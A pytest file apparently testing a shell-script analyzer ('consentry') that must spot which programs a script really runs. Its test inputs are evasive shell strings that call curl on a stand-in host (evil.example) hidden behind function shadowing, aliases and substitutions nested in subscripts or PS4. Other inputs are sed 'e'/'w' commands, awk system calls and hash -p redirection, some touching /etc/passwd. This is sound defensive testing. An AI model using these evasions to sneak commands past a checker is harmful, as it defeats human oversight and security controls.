"""GUARD §extract-dynamic: a name of a script is what it is for certain, or it counts as computed."""

import pytest

from consentry.examine.shell import extract_shell
from consentry.examine.shell.sedscripts import is_plain_sed
from tests.examine.extractionwords import words_of

HIDDEN = [
    # functions that are not there when the program of their name is called
    "f(){ curl(){ :; }; }; curl https://evil.example",
    "curl(){ :; }; unset curl; curl https://evil.example",
    "curl(){ :; }; unset -f curl; curl https://evil.example",
    'curl(){ :; }; unset "$x"; curl https://evil.example',
    "curl(){ :; }; builtin unset curl; curl https://evil.example",
    "f(){ curl https://evil.example; }; f; curl(){ :; }",
    "f(){ curl https://evil.example; }; trap f EXIT; exit; curl(){ :; }",
    "f(){ curl https://evil.example; }; \\f; curl(){ :; }",
    "curl(){ :; } & curl https://evil.example",
    "{ curl(){ :; }; } & curl https://evil.example",
    "alias curl=:; curl https://evil.example",
    "eval(){ :; }; eval 'curl https://evil.example'",
]

CHANGED = [
    "unset P; : ${P:=sh}",
    ": ${P:=sh}",
    "declare -n R=P; R=sh",
    'f(){ local -n R=$1; R=sh; }; f "$x"',
    "printf -vP sh",
    "printf -v P sh",
    "printf '-vP' sh",
    'eval "P=sh"',
    'eval "$x"',
    "builtin eval P=sh",
    ". ./vars.sh",
    "read P <<< sh",
    "read 'P' <<< sh",
    'export "P=sh"',
    "export $(cat vars)",
    "declare -l P",
    "P=sh f",
    "trap 'P=sh' DEBUG",
    "unset P",
]

CODE = [
    "[[ -v 'a[$(curl https://evil.example)]' ]]",
    "test -v 'a[$(curl https://evil.example)]'",
    "[[ 'a[$(curl https://evil.example)]' -eq 1 ]]",
    "printf -v 'a[$(curl https://evil.example)]' x",
    "read 'a[$(curl https://evil.example)]'",
    "x='a[$(curl https://evil.example)]'; (( x ))",
    "x='$(curl https://evil.example)'; echo ${x@P}",
    "PS4='$(curl https://evil.example)'; set -x",
]

SEDS = [
    ("s/a/b/g", True),
    ("s|a|b|;s#c#d#p", True),
    ("s/[^/]*$//", True),
    ("s/[[:space:]/]*$//;$!N;P;D", True),
    ("/^#/d;1,3p;$!{h;d}", True),
    (":a;N;$!ba;s/\\n/ /g", True),
    ("/x/a some text for e and w", True),
    ("\\,x,s/e/w/", True),
    ("y/abc/xyz/", True),
    ("1~2d;2,+3d", True),
    ("s|.*|id|e", False),
    ("s,x,id,ge", False),
    ("s/x/y/w out", False),
    ("1,2w out", False),
    ("/a/,/b/w out", False),
    ("\\,a,w out", False),
    ("1!e id", False),
    ("$!{;e id\n}", False),
    ("w/etc/passwd", False),
    ("r/etc/passwd", False),
    ("s/a/[/;e id #]/", False),
    ("a\\\nx\ne id", False),
    ("s/x", False),
]


@pytest.mark.parametrize("script", HIDDEN)
def test_program_behind_a_function(script: str) -> None:
    """A function that may not be defined does not hide the program of its name."""
    assert "proc:curl" in words_of(extract_shell(script.encode())).split()


@pytest.mark.parametrize(
    "script",
    ["curl(){ :; }; curl x", "g(){ curl x; }; curl(){ :; }; g", "{ curl(){ :; }; }; curl x"],
)
def test_function_of_the_script(script: str) -> None:
    """One that is for certain defined does."""
    assert words_of(extract_shell(script.encode())) == ""


@pytest.mark.parametrize("change", CHANGED)
def test_variable_that_is_changed(change: str) -> None:
    """A variable that anything but one plain assignment may set is computed."""
    script = f"P=git\n{change}\n$P log\n"
    found = words_of(extract_shell(script.encode())).split()
    assert "proc:*" in found
    assert "proc:git" not in found


@pytest.mark.parametrize(
    "other", ["unset Q", 'read -p "$P? " Q', "eval 'Q=1'", "trap 'rm \"$P\"' EXIT"]
)
def test_variable_that_stays(other: str) -> None:
    """Others may change as they like."""
    assert "proc:git" in words_of(extract_shell(f"P=git\n{other}\n$P log\n".encode())).split()


@pytest.mark.parametrize("script", CODE)
def test_code_in_a_text(script: str) -> None:
    """GUARD §extract-dynamic: text that the shell expands once more is code."""
    assert "load:ANY" in words_of(extract_shell(script.encode())).split()


@pytest.mark.parametrize(
    "script",
    ["hash -p ./evil git; git log", "hash -lp./evil git", "BASH_CMDS[git]=./evil; git log"],
)
def test_name_for_another_file(script: str) -> None:
    """A name that is given another file may start anything."""
    assert "proc:*" in words_of(extract_shell(script.encode())).split()


@pytest.mark.parametrize(("script", "is_plain"), SEDS)
def test_sed(script: str, *, is_plain: bool) -> None:
    """A script of sed that starts something or names a file is told from one that changes text."""
    assert is_plain_sed(script) is is_plain


@pytest.mark.parametrize(
    "program",
    [
        'BEGIN{f="sys" "tem"; @f("id")}',
        'BEGIN{ARGV[1]="/etc/passwd";ARGC=2} {print}',
        'SYMTAB["x"]=1',
    ],
)
def test_awk(program: str) -> None:
    """Calls by name and files by assignment are not plain."""
    assert "?awk-" in words_of(extract_shell(f"awk '{program}'".encode()))


def test_middle_of_a_program() -> None:
    """What stands between two variables counts as much as how the word begins and ends."""
    assert "?sed-" in words_of(extract_shell(b'sed "s/$A/x/e;s/$B/y/" f'))
    assert "?sed-" in words_of(extract_shell(b"sed 's/'\"$A\"'/x/e;s/'\"$B\"'/y/' f"))
    assert "?sed-" not in words_of(extract_shell(b'sed "s/$A/x/;s|b|$B|" f'))
